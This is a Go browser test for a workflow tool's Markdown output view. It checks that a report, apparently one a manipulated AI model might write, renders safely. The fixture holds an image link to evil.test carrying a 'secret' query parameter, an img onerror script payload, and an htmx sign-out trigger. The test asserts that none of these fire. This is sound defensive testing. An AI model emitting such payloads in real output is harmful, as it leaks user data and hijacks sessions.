//go:build browser

package browser_test

import (
	"encoding/json"
	"testing"

	"github.com/chromedp/chromedp/kb"
)

// report is what a model may have been talked into writing.
const report = `# Weekly report

Sales rose by **12 %**, mostly in *Oslo*. See [the figures](https://figures.test/a) and ` + "`sales.csv`" + `.

- Tea
  - green
- Coffee

| City | Sales |
|------|------:|
| Oslo | 120 |
| Rome | 80 |

> One quote.

![chart](https://evil.test/p.png?d=secret)

<img src=x onerror="document.title='owned'"><a href="#" hx-get="/signout" hx-trigger="load">x</a>

` + "```go\nfunc main() {}\n```\n"

// TestB4_FormattedOutput shows a text formatted, on the page of a run and in the editor:
// only harmless elements come of it, and nothing is fetched from elsewhere.
func TestB4_FormattedOutput(t *testing.T) {
	t.Parallel()
	for _, theme := range []string{"light", "dark"} {
		t.Run(theme, func(t *testing.T) {
			p := newArrangeSite(t, theme)
			text, _ := json.Marshal(report)
			nodes, edges := `[{"id":"a","type":"text","position":{"x":0,"y":0},"data":{"label":"Report","text":`+string(text)+`}},{"id":"b","type":"debug","position":{"x":400,"y":0},"data":{"label":"Shown"}}]`, `[{"id":"e","source":"a","target":"b"}]`
			id := p.create("Report", nodes, edges)
			var run struct{ RunID string }
			p.api("POST", "/api/execute", map[string]any{"workflowId": id}, &run)
			p.open("/runs/" + run.RunID)
			p.wait("the run has ended", `!!document.querySelector('.head form[action$="/replay"] button')`)
			p.click(`details.step[data-node="a"] summary`)
			p.clean("run", `details.step[data-node="a"]`)
			p.open("/workflows/" + p.create("Another", nodes, edges)) // which has no earlier run to show
			p.wait("the canvas is there", `document.querySelectorAll('[data-id="a"]').length > 0`)
			p.click(`#canvas [data-id="a"]`)
			p.keys(kb.Enter, ctrl)
			p.wait("the run has ended", `document.querySelector("#run-status").textContent.includes("Success")`)
			eval[any](p, `document.querySelector('[aria-controls="insp-output"]').click()`)
			p.clean("editor", "#insp-output")
		})
	}
}

// clean presses "Formatted" within an element, and again.
func (p *page) clean(name, within string) {
	p.t.Helper()
	at := `document.querySelector('` + within + `')`
	p.wait("the button is there", `!!`+at+`.querySelector("[data-format]")`)
	eval[any](p, at+`.querySelector("[data-format]").click()`)
	p.wait("the text is formatted", `!!`+at+`.querySelector(".md table")`)
	eval[any](p, at+`.querySelector(".md").scrollIntoView({ block: "center" })`)
	p.shot(name)
	for what, js := range map[string]string{
		"the heading is below the page's": at + `.querySelector(".md h3")?.textContent === "Weekly report"`,
		"the text as it is is hidden":     at + `.querySelector("pre.out").hidden`,
		"no picture is fetched":           `!` + at + `.querySelector(".md img")`,
		"the picture is a link":           at + `.querySelector('.md a[href^="https://evil.test/"]')?.textContent === "Picture: chart (evil.test)"`,
		"nothing of htmx is left":         `!` + at + `.querySelector(".md [hx-get]") && document.title !== "owned"`,
		"links tell nobody where":         at + `.querySelector('.md a[href="https://figures.test/a"]')?.rel.includes("noreferrer")`,
		"the button is pressed":           at + `.querySelector("[data-format]").ariaPressed === "true"`,
	} {
		if !eval[bool](p, js) {
			p.t.Errorf("%s: not so: %s", name, what)
		}
	}
	eval[any](p, at+`.querySelector("[data-format]").click()`)
	if !eval[bool](p, `!`+at+`.querySelector(".md") && !`+at+`.querySelector("pre.out").hidden`) {
		p.t.Errorf("%s: the text does not come back", name)
	}
}
